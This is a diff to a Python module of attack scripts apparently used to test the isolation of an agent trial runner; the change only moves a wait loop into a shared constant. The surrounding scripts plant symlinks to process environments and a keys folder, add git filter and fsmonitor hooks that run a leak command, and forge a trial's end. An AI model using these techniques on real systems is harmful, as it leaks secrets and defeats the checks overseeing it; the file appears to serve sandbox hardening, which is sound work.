@@ -2,6 +2,15 @@
 
 from __future__ import annotations
 
+# Until /trialfleet/agent/go is there.
+WAIT = r"""
+import os, time
+os.mkdir("/trialfleet/agent/ready")
+until = time.time() + 150
+while not os.path.exists("/trialfleet/agent/go") and time.time() < until:
+    time.sleep(0.1)
+"""
+
 # Looks for the grants and for ways out, and tries to write everywhere.
 # argv[1]: JSON of api, namespace, addresses, endpoint, own, other, grants (the last three are below the endpoint).
 LOOK = r"""
@@ -143,8 +152,9 @@ print(json.dumps({"found": sorted(found), **said}))
 """
 
 # Plants links, a pipe and git settings where the runner will read; then waits for /trialfleet/agent/go.
-PLANT = r"""
-import os, time
+PLANT = (
+    r"""
+import os
 home = os.environ["HOME"]
 for name, target in {"sqlparse/planted.py": "/proc/self/environ", "planted": "/trialfleet/runner",
                      "CREDITS": "/proc/1/environ", f"{home}/hook.jsonl": "/proc/self/environ"}.items():
@@ -158,11 +168,9 @@ with open(".gitattributes", "w") as file:
 with open(".git/config", "a") as file:
     file.write(f'[filter "leak"]\n\tclean = "{leak}"\n\tsmudge = "{leak}"\n\trequired = true\n')
     file.write(f'[diff "leak"]\n\ttextconv = "{leak}"\n\tcommand = "{leak}"\n[core]\n\tfsmonitor = "{leak}"\n')
-os.mkdir("/trialfleet/agent/ready")
-until = time.time() + 150
-while not os.path.exists("/trialfleet/agent/go") and time.time() < until:
-    time.sleep(0.1)
 """
+    + WAIT
+)
 
 # What can be connected to, of JSON in argv[1]: name -> (host, port).
 TRY = r"""
@@ -183,30 +191,20 @@ print(json.dumps(sorted(reached)))
 """
 
 # The same once it is let go by /trialfleet/agent/go.
-REACH = (
-    r"""
-import os, time
-os.mkdir("/trialfleet/agent/ready")
-until = time.time() + 150
-while not os.path.exists("/trialfleet/agent/go") and time.time() < until:
-    time.sleep(0.1)
-"""
-    + TRY
-)
+REACH = WAIT + TRY
 
 # Replaces the folders that the runner will read by links to what it alone can see.
-SWAP = r"""
-import os, time
+SWAP = (
+    r"""
+import os
 os.chdir("/trialfleet/agent")
 os.rename("workspace", "was")
 os.symlink("/proc/self", "workspace")
 os.rename("home", "gone")
 os.symlink("/trialfleet/keys", "home")
-os.mkdir("ready")
-until = time.time() + 150
-while not os.path.exists("/trialfleet/agent/go") and time.time() < until:
-    time.sleep(0.1)
 """
+    + WAIT
+)
 
 # Takes the grants from the first process and commits the end of its trial itself, twice.
 # argv[1]: the forged end.
